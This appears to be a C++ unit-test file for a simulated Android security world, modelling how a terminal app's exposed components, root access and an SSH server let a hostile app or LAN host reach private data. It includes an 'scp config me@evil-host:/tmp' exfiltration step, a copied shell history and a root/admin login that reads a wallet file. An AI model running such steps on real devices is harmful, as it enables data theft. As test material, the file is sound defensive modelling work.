#include "doctest.h"

#include "ifl/base/error.h"
#include "ifl/cmd/interpreter.h"
#include "ifl/cmd/ssh.h"
#include "ifl/world/world.h"

using namespace ifl;
using namespace ifl::cmd;

namespace {

constexpr char kTerm[] = "jackpal.androidterm";
constexpr char kHistory[] = "/data/data/jackpal.androidterm/.bash_history";

struct Bench {
  World world{1};
  int term_uid;
  int attacker_uid;
  int wallet_uid;

  explicit Bench(bool rooted = false) {
    world.device_rooted = rooted;
    term_uid = world.fs.InstallApp(kTerm, {}).uid;
    attacker_uid = world.fs.InstallApp("com.evil.app", {}).uid;
    wallet_uid = world.fs.InstallApp("com.wallet", {}).uid;
    world.net.AddNode(kTerm, net::NodeKind::kDeviceApp, "phone", kTerm);
    world.net.AddNode("com.evil.app", net::NodeKind::kDeviceApp, "phone",
                      "com.evil.app");
    world.net.AddNode("lan-pc", net::NodeKind::kIntranetHost, "lan-pc");
    world.net.AddNode("evil-host", net::NodeKind::kInternetHost, "evil-host");
    world.fs.Write(kHistory, term_uid, "ls\n");
    world.fs.Write("/data/data/jackpal.androidterm/config", term_uid, "conf");
    world.fs.Write("/data/data/com.wallet/files/wallet.dat", wallet_uid, "BTC");
  }

  Interpreter Terminal(InterpreterConfig config = DefaultConfig()) {
    return Interpreter(world, kTerm, kTerm, std::move(config));
  }

  static InterpreterConfig DefaultConfig() {
    InterpreterConfig config;
    config.components = {{"RunScript", true, "jackpal.androidterm.permission.RUN_SCRIPT"},
                         {"RemoteInterface", true, std::nullopt},
                         {"Internal", false, std::nullopt}};
    return config;
  }

  Caller Attacker() const { return {"com.evil.app", attacker_uid, {}}; }
};

Errc CodeOf(auto&& fn) {
  try {
    fn();
  } catch (const Error& e) {
    return e.code();
  }
  FAIL("no error raised");
  return Errc::kNoMatch;
}

}  // namespace

TEST_CASE("argv helpers") {
  CHECK(SplitArgv("  cp  a\tb ") == std::vector<std::string>{"cp", "a", "b"});
  CHECK(JoinArgv({"cat", "x"}) == "cat x");
}

TEST_CASE("guarded proxy versus exposed component") {
  Bench b;
  Interpreter term = b.Terminal();
  CHECK(CodeOf([&] {
          term.InvokeComponent(b.Attacker(), "RunScript", {"history"});
        }) == Errc::kPermissionRequired);
  CHECK(CodeOf([&] {
          term.InvokeComponent(b.Attacker(), "Internal", {"history"});
        }) == Errc::kComponentNotExported);
  CHECK(CodeOf([&] { term.InvokeComponent(b.Attacker(), "Nope", {"ls"}); }) ==
        Errc::kNotFound);

  term.InvokeComponent(b.Attacker(), "RemoteInterface",
                       {"cp", ".bash_history", "/sdcard/x"});
  std::string leaked = b.world.fs.Read("/sdcard/x", b.attacker_uid);
  CHECK(leaked == b.world.fs.Read(kHistory, b.term_uid));
  CHECK(leaked == "ls\ncp .bash_history /sdcard/x\n");

  Caller granted = b.Attacker();
  granted.permissions.insert("jackpal.androidterm.permission.RUN_SCRIPT");
  std::string output = term.InvokeComponent(granted, "RunScript", {"history"}).output;
  CHECK(output == b.world.fs.Read(kHistory, b.term_uid));
}

TEST_CASE("scp sends bytes to a remote inbox") {
  Bench b;
  Interpreter term = b.Terminal();
  term.Execute({"scp", "config", "me@evil-host:/tmp"}, kTerm);
  const auto& inbox = b.world.net.node("evil-host").inbox;
  REQUIRE(inbox.size() == 1);
  CHECK(inbox[0].payload == "conf");
  CHECK(inbox[0].from == kTerm);
}

TEST_CASE("root decides cross-app reads") {
  Bench plain;
  Interpreter user = plain.Terminal();
  CHECK(CodeOf([&] {
          user.Execute({"cat", "/data/data/com.wallet/files/wallet.dat"}, kTerm);
        }) == Errc::kPermissionDenied);
  CHECK(CodeOf([&] { user.Execute({"ls", "/data/data/com.wallet/"}, kTerm); }) ==
        Errc::kPermissionDenied);

  InterpreterConfig config = Bench::DefaultConfig();
  config.tries_root = true;
  Interpreter wants_root = plain.Terminal(config);
  CHECK(wants_root.ShellUser() == "user");

  Bench rooted(true);
  Interpreter root = rooted.Terminal(config);
  CHECK(root.ShellUser() == "root");
  CHECK(root.Execute({"cat", "/data/data/com.wallet/files/wallet.dat"}, kTerm)
            .output == "BTC");
}

TEST_CASE("history is appended before the command runs") {
  Bench b;
  Interpreter term = b.Terminal();
  CHECK(CodeOf([&] { term.Execute({"frobnicate"}, kTerm); }) ==
        Errc::kUnknownCommand);
  CHECK(b.world.fs.Read(kHistory, b.term_uid) == "ls\nfrobnicate\n");
  CHECK(term.Execute({"history"}, kTerm).output == "ls\nfrobnicate\nhistory\n");
}

TEST_CASE("chmod and echo_append") {
  Bench b;
  Interpreter term = b.Terminal();
  term.Execute({"chmod", "644", "config"}, kTerm);
  CHECK(b.world.fs.Read("/data/data/jackpal.androidterm/config", b.attacker_uid) ==
        "conf");
  term.Execute({"chmod", "o-r", "config"}, kTerm);
  CHECK(CodeOf([&] {
          b.world.fs.Read("/data/data/jackpal.androidterm/config", b.attacker_uid);
        }) == Errc::kPermissionDenied);
  CHECK(CodeOf([&] { term.Execute({"chmod", "u+x", "config"}, kTerm); }) ==
        Errc::kUnknownCommand);
  term.Execute({"echo_append", "/sdcard/n", "hello", "world"}, kTerm);
  CHECK(b.world.fs.Read("/sdcard/n", b.attacker_uid) == "hello world\n");
}

TEST_CASE("auth-access asks the user for private-zone commands") {
  Bench b;
  b.world.auth_access = true;
  Interpreter term = b.Terminal();
  CHECK(CodeOf([&] {
          term.InvokeComponent(b.Attacker(), "RemoteInterface",
                               {"cp", ".bash_history", "/sdcard/x"});
        }) == Errc::kPermissionDenied);
  CHECK_FALSE(b.world.fs.Exists("/sdcard/x"));
  CHECK(b.world.trace.UserVisible().size() == 1);

  // Public-only commands need no grant.
  term.Execute({"echo_append", "/sdcard/n", "x"}, kTerm);

  b.world.user_grants = [](const std::string&, const std::string&) { return true; };
  term.InvokeComponent(b.Attacker(), "RemoteInterface",
                       {"cp", ".bash_history", "/sdcard/x"});
  CHECK(b.world.fs.Exists("/sdcard/x"));
}

TEST_CASE("ssh line protocol") {
  Bench b(true);
  InterpreterConfig config = Bench::DefaultConfig();
  config.tries_root = true;
  config.ssh = ShellAuth{};
  Interpreter sshd(b.world, kTerm, kTerm, config);
  sshd.ServeSsh();

  CHECK(ProbeBanner(b.world, "lan-pc", "phone") == "BANNER SSHDroid user=root");

  SshClient wrong(b.world, "lan-pc", "phone");
  CHECK(CodeOf([&] { wrong.Run({"ls"}); }) == Errc::kAuthFailed);
  CHECK(CodeOf([&] { wrong.Login("root", "guess"); }) == Errc::kAuthFailed);

  SshClient client(b.world, "lan-pc", "phone");
  client.Login("root", "admin");
  CHECK(client.Run({"cat", "/data/data/com.wallet/files/wallet.dat"}) == "BTC");
  CHECK(CodeOf([&] { client.Run({"cat", "/nope"}); }) == Errc::kNotFound);

  // The shell channel is encrypted, so a sniffer sees no credentials.
  for (const net::Frame& f : b.world.net.Sniff("lan-pc", net::Scope::kIntranet)) {
    CHECK(f.request.find("admin") == std::string::npos);
    CHECK(f.response.find("BTC") == std::string::npos);
  }

  CHECK(CodeOf([&] { SshClient(b.world, "evil-host", "phone"); }) ==
        Errc::kUnreachable);
}
